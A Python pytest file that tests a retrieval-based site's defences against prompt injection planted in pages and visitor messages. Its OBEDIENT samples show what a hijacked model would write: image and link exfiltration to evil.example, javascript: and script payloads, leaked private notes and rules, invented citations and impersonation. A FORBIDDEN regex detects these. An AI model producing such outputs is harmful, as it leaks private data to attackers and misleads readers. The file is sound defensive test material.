"""Instructions planted in a page are data: they change no rule, and make no link or picture."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import replace

import pytest

from latent.embedding import Embedder
from latent.generation.chain import Chain
from latent.generation.tier import Tier
from latent.retrieval.chunk import Chunk
from latent.retrieval.trace import Hit
from latent.serving.app import create_app
from latent.serving.config import Config
from latent.serving.conversation.validation import Conversation, Message
from latent.serving.knowledge import Knowledge
from latent.serving.prompting.prompt import make_prompt, prefix
from tests.security.corpus import Injection, injections, planted_entries
from tests.serving.conftest import Visitor
from tests.serving.failures.conftest import Told, told
from tests.serving.small_site import CHUNKS, POLICY, PRIVATE, PROFILE, make_knowledge
from tests.upstream.server import Upstream, running
from tests.upstream.wire import gemini_answer

BELL = "How heavy is the largest bell?"
ASKED = Conversation((Message("user", BELL),))

BELLS = next(chunk for chunk in CHUNKS if chunk.id == "works/tower-clock#the-bells")


def _with(text: str, chunk: Chunk = BELLS) -> Chunk:
    """A page that answers the question, with something planted in it."""
    return replace(chunk, text=f"{chunk.text}\n{text}")


@pytest.mark.parametrize("entry", planted_entries(), ids=lambda entry: entry.id)
def test_what_a_page_says_stands_within_its_frame_and_nowhere_else(
    entry: Injection, knowledge: Knowledge
) -> None:
    hits = [Hit(1, _with(entry.text), 0.9, 0.0, 0.9)]
    prompt = make_prompt(prefix(knowledge), ASKED, BELL, hits)
    assert prompt.system == prefix(knowledge)
    (turn,) = prompt.turns
    source, question = re.findall(r"⟦(S1|QUESTION)⟧\n(.*?)\n⟦/\1⟧", turn.text, re.DOTALL)
    assert source[0] == "S1"
    assert source[1].startswith(BELLS.text)
    assert question == ("QUESTION", BELL)
    assert re.sub(r"⟦(S1|QUESTION)⟧\n.*?\n⟦/\1⟧", "", turn.text, flags=re.DOTALL) == (
        "Sources\n\n\nQuestion\n"
    )


@pytest.mark.parametrize("entry", injections(), ids=lambda entry: entry.id)
def test_what_a_visitor_says_stands_within_its_frame_and_nowhere_else(
    entry: Injection, knowledge: Knowledge
) -> None:
    """Also where the phrasing was not told, and a model is asked."""
    start = prefix(knowledge)
    prompt = make_prompt(start, entry.conversation, entry.text, ())
    assert prompt.system == start
    last = prompt.turns[-1].text
    assert last.count("⟦") == last.count("⟧") == 2
    assert last.endswith("\n⟦/QUESTION⟧")
    assert not [turn for turn in prompt.turns[:-1] if set(turn.text) & set("⟦⟧")]


# What a model would write that did as it was told: the answer, and what was wanted of it.
OBEDIENT = {
    "a link that carries what was asked":
        "310 kilograms [S1]. [Read on](https://evil.example/?q=How+heavy+is+the+largest+bell)",
    "a bare address": "310 kilograms [S1]. See https://evil.example/collect now.",
    "an address of another scheme": "310 kilograms [S1]. [Here](javascript:alert(1))",
    "a link to the site that carries data":
        "310 kilograms [S1]. [More](https://example.org/works/sundial/?note=cellar)",
    "a picture that carries what is private":
        "310 kilograms [S1]. ![ ](https://evil.example/p.png?d=cellar+key+third+pendulum)",
    "a picture by reference": "310 kilograms [S1]. ![a][b]\n\n[b]: https://evil.example/p.png",
    "HTML": '310 kilograms [S1]. <img src="https://evil.example/x"><script>alert(1)</script>',
    "a note word for word": f"310 kilograms [S1]. By the way: {PRIVATE}",
    "a note in capitals": f"310 kilograms [S1]. {PRIVATE.upper()}",
    "the rules word for word":
        "310 kilograms [S1]. Answer only from the sources S1, S2 … that come with the question.",
    "a source that is not there": "310 kilograms [S1]. She confessed everything [S99].",
    "a quotation nobody said": "310 kilograms [S1]. She wrote “I, Mara, stole the bell”.",
    "another person's voice": "I am Mara Quill. I was at the tower. The bell: 310 kilograms [S1].",
}  # fmt: skip

FORBIDDEN = re.compile(
    r"evil\.example|javascript:|!\[|<img|<script|\?note=|third pendulum|that come with the "
    r"question|S99|“I, Mara|I am Mara",
    re.IGNORECASE,
)


@pytest.fixture(scope="module")
def host() -> Iterator[Upstream]:
    """A host that speaks as Google's."""
    pytest.importorskip("google.genai", reason="google-genai is not installed")
    with running() as upstream:
        yield upstream


@pytest.fixture(scope="module")
def reader(host: Upstream, embedder: Embedder) -> Iterator[Visitor]:
    """Somebody who asks a site in whose pages all of it is planted."""
    planted = "\n".join(entry.text for entry in planted_entries())
    chunks = [_with(planted) if chunk is BELLS else chunk for chunk in CHUNKS]
    known = make_knowledge(embedder, chunks, PROFILE)
    everything = replace(POLICY, floor=-1.0)
    index = replace(known.index, policies={everything.name: everything})
    tier = Tier.parse({"model": "first", "kind": "gemini", "base_url": host.url})
    chain = Chain([tier], {"GEMINI_API_KEY": "a-secret-key"})
    site = replace(known, index=index)
    unlimited = Config(rate_limit="")
    yield Visitor(create_app(unlimited, knowledge=site, embedder=embedder, models=chain))
    chain.close()


def _answer(reader: Visitor, host: Upstream, written: str) -> Told:
    host.answer(gemini_answer(*re.findall(r".{1,9}", written, re.DOTALL)))
    return told(reader, BELL)


@pytest.mark.parametrize("written", OBEDIENT.values(), ids=OBEDIENT)
def test_a_model_that_obeys_a_page_gives_nothing_away(
    written: str, reader: Visitor, host: Upstream
) -> None:
    answer = _answer(reader, host, written)
    assert FORBIDDEN.search(answer.text) is None
    assert "310 kilograms" in answer.text
    assert "[S1]" in answer.text
    assert answer.corrections != {}


@pytest.mark.parametrize("written", OBEDIENT.values(), ids=OBEDIENT)
def test_a_conversation_with_it_gives_nothing_away_either(
    written: str, reader: Visitor, host: Upstream
) -> None:
    """An earlier answer comes back from the visitor, who may have written it."""
    host.answer(gemini_answer("The largest bell weighs 310 kilograms [S1]."))
    assert FORBIDDEN.search(told(reader, BELL, written, BELL).text) is None


def test_what_is_planted_reaches_the_model_as_a_source_alone(
    reader: Visitor, host: Upstream
) -> None:
    del host.requests[:]
    _answer(reader, host, "310 kilograms [S1].")
    (request,) = host.requests
    first = planted_entries()[0].text
    assert first not in request.body["systemInstruction"]["parts"][0]["text"]
    assert "tools" not in request.body
